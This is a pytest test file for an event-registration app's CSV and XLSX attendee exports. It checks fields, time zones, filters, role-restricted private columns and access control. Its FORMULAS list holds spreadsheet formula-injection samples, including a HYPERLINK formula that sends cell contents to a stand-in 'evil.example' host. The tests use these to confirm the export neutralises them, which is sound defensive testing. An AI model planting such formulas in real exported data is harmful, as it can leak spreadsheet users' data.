"""CSV and XLSX exports of the attendee list, read back as a spreadsheet user would: every field, names in any
script, formulas neutralised, the list's filters applied, private columns only for roles that may see them."""

import csv
import io
import re
import tempfile
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from sqlalchemy import insert

from eventreg.auth.services import create_organizer
from eventreg.extensions import db
from eventreg.models import ROLE_RIGHTS, Registration, Right, event_organizer, utcnow

PASSWORD = "correct horse battery"
COMMON_HEADERS = [
    "Number",
    "Check-in code",
    "Status",
    "Honorific",
    "Given name",
    "Family name",
    "Name in native script",
    "Email",
    "Institution",
    "Position",
    "Country or region code",
    "Country or region",
    "Continent",
    "Sub-region",
    "Category code",
    "Category",
    "Delegation",
    "Accompanying persons",
    "Visa letter requested",
]
DATE_HEADERS = [
    f"{label} ({zone})"
    for label in ("Registered", "Last changed", "Consent given", "Checked in")
    for zone in ("UTC", "Asia/Shanghai")
]
ALL_HEADERS = [*COMMON_HEADERS, "Dietary requirements", "Accessibility needs", "Language", *DATE_HEADERS]
FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\tTab", "\rReturn"]


def login(app, email="admin@example.org", role="admin", events=()):
    """A client logged in as a new organizer with `role`, assigned to `events`."""
    with app.app_context():
        organizer = create_organizer(email, PASSWORD, role)
        for event in events:
            db.session.execute(event_organizer.insert().values(event_id=event.id, organizer_id=organizer.id))
        db.session.commit()
    client = app.test_client()
    assert client.post("/auth/login", data={"email": email, "password": PASSWORD}).status_code == 302
    return client


def csv_rows(response) -> list[dict]:
    """The CSV download read back with the csv module, after checking its BOM."""
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def xlsx_rows(response) -> tuple[list[str], list[dict]]:
    """The XLSX download read back with openpyxl: the headers and each row as a dict of cells."""
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return headers, [dict(zip(headers, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def event(make_event):
    return make_event(capacity=100)


@pytest.fixture
def admin(app):
    return login(app)


def full_registration(make_registration, event, **fields):
    values = {
        "honorific": "Prof.",
        "given_name": "Chunli",
        "family_name": "Bai",
        "native_name": "白春礼",
        "email": "bai@example.org",
        "institution": "Chinese Academy of Sciences",
        "position": "President",
        "country": "CN",
        "category": "speaker",
        "accompanying": 2,
        "dietary": "Vegetarian, no peanuts",
        "accessibility": "Wheelchair access",
        "visa_letter": True,
    }
    values.update(fields)
    registration_id, _ = make_registration(event, **values)
    return registration_id


def test_csv_has_a_bom_readable_headers_and_every_field(app, admin, event, make_registration):
    registration_id = full_registration(make_registration, event)
    response = admin.get(f"/organizer/events/{event.slug}/registrations.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    [row] = csv_rows(response)
    assert list(row) == ALL_HEADERS
    with app.app_context():
        registration = db.session.get(Registration, registration_id)
        created = registration.created_at
        db.session.expunge(registration)
    assert row["Number"] == str(registration_id)
    assert row["Check-in code"] == registration.checkin_code
    assert row["Status"] == "Confirmed"
    assert (row["Honorific"], row["Given name"], row["Family name"]) == ("Prof.", "Chunli", "Bai")
    assert row["Name in native script"] == "白春礼"
    assert (row["Email"], row["Institution"], row["Position"]) == (
        "bai@example.org",
        "Chinese Academy of Sciences",
        "President",
    )
    assert (row["Country or region code"], row["Country or region"]) == ("CN", "China")
    assert (row["Continent"], row["Sub-region"]) == ("Asia", "Eastern Asia")
    assert row["Category"] == "Speaker"
    assert row["Accompanying persons"] == "2"
    assert row["Visa letter requested"] == "Yes"
    assert row["Dietary requirements"] == "Vegetarian, no peanuts"
    assert row["Accessibility needs"] == "Wheelchair access"
    assert row["Language"] == "en"
    assert row["Registered (UTC)"] == created.strftime("%Y-%m-%dT%H:%M:%SZ")
    local = datetime.fromisoformat(row["Registered (Asia/Shanghai)"])
    assert local.utcoffset() == timedelta(hours=8)
    assert local == created.replace(microsecond=0)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["Consent given (UTC)"])
    assert row["Checked in (UTC)"] == row["Checked in (Asia/Shanghai)"] == ""


def test_csv_shows_a_check_in_time_in_both_zones(app, admin, event, make_registration):
    registration_id = full_registration(make_registration, event)
    with app.app_context():
        db.session.get(Registration, registration_id).checked_in_at = datetime(2027, 3, 1, 2, 0, tzinfo=UTC)
        db.session.commit()
    [row] = csv_rows(admin.get(f"/organizer/events/{event.slug}/registrations.csv"))
    assert row["Checked in (UTC)"] == "2027-03-01T02:00:00Z"
    assert row["Checked in (Asia/Shanghai)"] == "2027-03-01T10:00:00+08:00"


NAMES = [
    ("Chunli", "Bai", "白春礼", "CN"),
    ("محمد", "العلي", "محمد العلي", "EG"),
    ("Ирина", "Иванова", "Ирина Иванова", "RU"),
]


def register_names(make_registration, event):
    for number, (given, family, native, country) in enumerate(NAMES):
        names = {"given_name": given, "family_name": family, "native_name": native}
        make_registration(event, email=f"n{number}@example.org", country=country, **names)


def test_names_in_any_script_survive_both_formats(admin, event, make_registration):
    register_names(make_registration, event)
    expected = {(given, family, native) for given, family, native, _country in NAMES}
    rows = csv_rows(admin.get(f"/organizer/events/{event.slug}/registrations.csv"))
    assert {(row["Given name"], row["Family name"], row["Name in native script"]) for row in rows} == expected
    _headers, cells = xlsx_rows(admin.get(f"/organizer/events/{event.slug}/registrations.xlsx"))
    found = {(row["Given name"].value, row["Family name"].value, row["Name in native script"].value) for row in cells}
    assert found == expected


def register_formulas(make_registration, event):
    """One registration whose typed fields each start like a formula."""
    return full_registration(
        make_registration,
        event,
        given_name=FORMULAS[0],
        family_name=FORMULAS[1],
        institution=FORMULAS[2],
        position=FORMULAS[3],
        native_name=FORMULAS[4],
        dietary=FORMULAS[5],
        accessibility="=1+1",
        honorific="@",
    )


FORMULA_FIELDS = {
    "Given name": FORMULAS[0],
    "Family name": FORMULAS[1],
    "Institution": FORMULAS[2],
    "Position": FORMULAS[3],
    "Name in native script": FORMULAS[4],
    "Dietary requirements": FORMULAS[5],
    "Accessibility needs": "=1+1",
    "Honorific": "@",
}


def test_csv_neutralises_formulas(admin, event, make_registration):
    register_formulas(make_registration, event)
    [row] = csv_rows(admin.get(f"/organizer/events/{event.slug}/registrations.csv"))
    for header, typed in FORMULA_FIELDS.items():
        assert row[header] == "'" + typed, header
    assert row["Accompanying persons"] == "2"  # our own numbers are left alone


def test_xlsx_neutralises_formulas_and_keeps_numbers_numeric(admin, event, make_registration):
    registration_id = register_formulas(make_registration, event)
    response = admin.get(f"/organizer/events/{event.slug}/registrations.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    headers, [row] = xlsx_rows(response)
    assert headers == ALL_HEADERS
    for header, typed in FORMULA_FIELDS.items():
        assert row[header].data_type == "s", header
        # openpyxl writes a CR as a character reference through lxml, so it reads back as it was typed
        assert row[header].value == "'" + typed, header
    assert row["Number"].value == registration_id and row["Number"].data_type == "n"
    assert row["Accompanying persons"].value == 2 and row["Accompanying persons"].data_type == "n"
    assert all(cell.data_type != "f" for cell in row.values())


def test_xlsx_has_every_field(admin, event, make_registration):
    full_registration(make_registration, event)
    _headers, [row] = xlsx_rows(admin.get(f"/organizer/events/{event.slug}/registrations.xlsx"))
    values = {header: cell.value for header, cell in row.items()}
    assert values["Status"] == "Confirmed"
    assert values["Name in native script"] == "白春礼"
    assert (values["Country or region code"], values["Country or region"], values["Continent"]) == (
        "CN",
        "China",
        "Asia",
    )
    assert (values["Category"], values["Visa letter requested"]) == ("Speaker", "Yes")
    assert values["Dietary requirements"] == "Vegetarian, no peanuts"
    assert values["Checked in (UTC)"] is None


def test_xlsx_has_real_dates_a_frozen_header_an_autofilter_and_column_widths(app, admin, event, make_registration):
    first = full_registration(make_registration, event)
    full_registration(make_registration, event, email="second@example.org")
    with app.app_context():
        registration = db.session.get(Registration, first)
        registration.checked_in_at = datetime(2027, 3, 1, 2, 0, tzinfo=UTC)
        code, created = registration.checkin_code, registration.created_at
        db.session.commit()
    response = admin.get(f"/organizer/events/{event.slug}/registrations.xlsx", query_string={"sort": "date"})
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(ALL_HEADERS))}3"  # the header and both rows
    widths = {
        header: sheet.column_dimensions[get_column_letter(number)].width for number, header in enumerate(ALL_HEADERS, 1)
    }
    assert widths["Email"] >= 30 and widths["Institution"] >= 30 and widths["Registered (Asia/Shanghai)"] >= 19
    assert widths["Number"] < widths["Email"]
    _headers, [row, _second] = xlsx_rows(response)
    assert row["Check-in code"].value == code
    # Dates are dates (a spreadsheet sorts and computes with them), the wall time of the zone the header names.
    assert row["Checked in (UTC)"].is_date and row["Checked in (UTC)"].value == datetime(2027, 3, 1, 2, 0)
    assert row["Checked in (Asia/Shanghai)"].value == datetime(2027, 3, 1, 10, 0)
    assert row["Registered (UTC)"].value == created.astimezone(UTC).replace(tzinfo=None, microsecond=0)
    assert row["Registered (Asia/Shanghai)"].value == row["Registered (UTC)"].value + timedelta(hours=8)
    assert all(row[header].is_date for header in DATE_HEADERS if row[header].value is not None)


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_download_is_named_and_never_cached(admin, event, extension):
    response = admin.get(f"/organizer/events/{event.slug}/registrations.{extension}")
    today = utcnow().date().isoformat()
    name = f"{event.slug}-registrations-{today}.{extension}"
    assert response.headers["Content-Disposition"] == f"attachment; filename=\"{name}\"; filename*=UTF-8''{name}"
    assert response.headers["Cache-Control"] == "no-store"


def test_attachment_header_keeps_any_name_safe():
    from eventreg.organizer.export_views import attachment

    header = attachment('année "2027";.csv')
    assert header == "attachment; filename=\"ann_e__2027__.csv\"; filename*=UTF-8''ann%C3%A9e%20%222027%22%3B.csv"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("country=FR", ["Dupont"]),
        ("country=fr", ["Dupont"]),
        ("continent=Asia", ["Bai", "Tanaka"]),
        ("status=cancelled", ["Tanaka"]),
        ("category=press", ["Dupont"]),
        ("visa_letter=yes", ["Bai"]),
        ("accompanying=yes", ["Bai"]),
        ("q=dupont", ["Dupont"]),
        ("sort=name", ["Bai", "Dupont", "Tanaka"]),
        ("sort=-name", ["Tanaka", "Dupont", "Bai"]),
    ],
)
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_export_follows_the_list_filters(app, admin, event, make_registration, query, expected, extension):
    make_registration(event, email="bai@example.org", family_name="Bai", visa_letter=True, accompanying=1)
    make_registration(event, email="dupont@example.org", family_name="Dupont", country="FR", category="press")
    cancelled, _ = make_registration(event, email="tanaka@example.org", family_name="Tanaka", country="JP")
    with app.app_context():
        db.session.get(Registration, cancelled).status = "cancelled"
        db.session.commit()
    response = admin.get(f"/organizer/events/{event.slug}/registrations.{extension}?{query}")
    assert response.status_code == 200
    if extension == "csv":
        names = [row["Family name"] for row in csv_rows(response)]
    else:
        names = [row["Family name"].value for row in xlsx_rows(response)[1]]
    if query.startswith("sort="):
        assert names == expected
    else:
        assert sorted(names) == expected


@pytest.mark.parametrize("query", ["status=lost", "country=France", "continent=Atlantis", "sort=age", "q=" + "x" * 300])
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_a_filter_not_understood_exports_nothing(admin, event, make_registration, query, extension):
    make_registration(event)
    response = admin.get(f"/organizer/events/{event.slug}/registrations.{extension}?{query}")
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    assert "Nothing was exported" in response.text
    assert "is not understood" in response.text
    assert "Content-Disposition" not in response.headers


def without_private_rights(monkeypatch):
    """A role that runs events but may not see dietary or accessibility needs."""
    rights = ROLE_RIGHTS["organizer"] - {Right.SEE_DIETARY, Right.SEE_ACCESS_NEEDS}
    monkeypatch.setitem(ROLE_RIGHTS, "organizer", rights)


def test_private_columns_only_for_roles_that_may_see_them(app, monkeypatch, admin, event, make_registration):
    full_registration(make_registration, event)
    without_private_rights(monkeypatch)
    organizer = login(app, "organizer@example.org", "organizer", events=[event])
    for client, shown in ((admin, True), (organizer, False)):
        [row] = csv_rows(client.get(f"/organizer/events/{event.slug}/registrations.csv"))
        assert ("Dietary requirements" in row) is shown
        assert ("Accessibility needs" in row) is shown
        assert ("Vegetarian, no peanuts" in row.values()) is shown
        headers, _cells = xlsx_rows(client.get(f"/organizer/events/{event.slug}/registrations.xlsx"))
        assert ("Dietary requirements" in headers) is shown
        assert ("Accessibility needs" in headers) is shown


def test_organizers_export_only_their_own_events(app, event, make_event, make_registration):
    other = make_event(title="Another Ceremony")
    client = login(app, "organizer@example.org", "organizer", events=[event])
    assert client.get(f"/organizer/events/{event.slug}/registrations.csv").status_code == 200
    for extension in ("csv", "xlsx"):
        assert client.get(f"/organizer/events/{other.slug}/registrations.{extension}").status_code == 403
        assert client.get(f"/organizer/events/no-such-event/registrations.{extension}").status_code == 404


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_check_in_staff_cannot_export(app, event, extension):
    client = login(app, "desk@example.org", "checkin", events=[event])
    assert client.get(f"/organizer/events/{event.slug}/registrations.{extension}").status_code == 403


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_anonymous_visitors_are_sent_to_the_login(client, event, extension):
    response = client.get(f"/organizer/events/{event.slug}/registrations.{extension}")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/auth/login")


def add_many(app, event, count):
    """`count` registrations in one bulk INSERT (the registration service would take a while); keys set by hand."""
    now = utcnow()
    rows = [
        {
            "event_id": event.id,
            "given_name": f"Given{number}",
            "family_name": f"Family{number}",
            "name_key": f"family{number} given{number}",
            "email": f"p{number}@example.org",
            "email_key": f"p{number}@example.org",
            "institution": "Institute",
            "institution_key": "institute",
            "country": "CN",
            "category": "delegate",
            "consent_at": now,
            "status": "confirmed",
            "language": "en",
        }
        for number in range(count)
    ]
    with app.app_context():
        db.session.execute(insert(Registration), rows)
        db.session.commit()


def test_a_large_csv_is_streamed_in_many_pieces(app, admin, event):
    add_many(app, event, 5000)
    response = admin.get(f"/organizer/events/{event.slug}/registrations.csv")
    assert response.status_code == 200
    assert response.is_streamed
    assert "Content-Length" not in response.headers
    chunks = list(response.response)
    assert len(chunks) > 20
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))
    assert len(rows) == 5000
    assert len({row["Number"] for row in rows}) == 5000


def test_a_large_xlsx_is_sent_in_pieces_and_leaves_no_file(app, admin, event, monkeypatch, tmp_path):
    spool = tmp_path / "spool"
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))
    add_many(app, event, 1500)  # about 150 kB: three pieces of 64 kB
    response = admin.get(f"/organizer/events/{event.slug}/registrations.xlsx")
    assert response.status_code == 200
    assert response.is_streamed
    chunks = list(response.response)
    assert len(chunks) > 1
    assert int(response.headers["Content-Length"]) == sum(map(len, chunks))
    response.close()
    assert list(spool.iterdir()) == []
    sheet = load_workbook(io.BytesIO(b"".join(chunks)), read_only=True).active
    assert sum(1 for _row in sheet.iter_rows(min_row=2)) == 1500
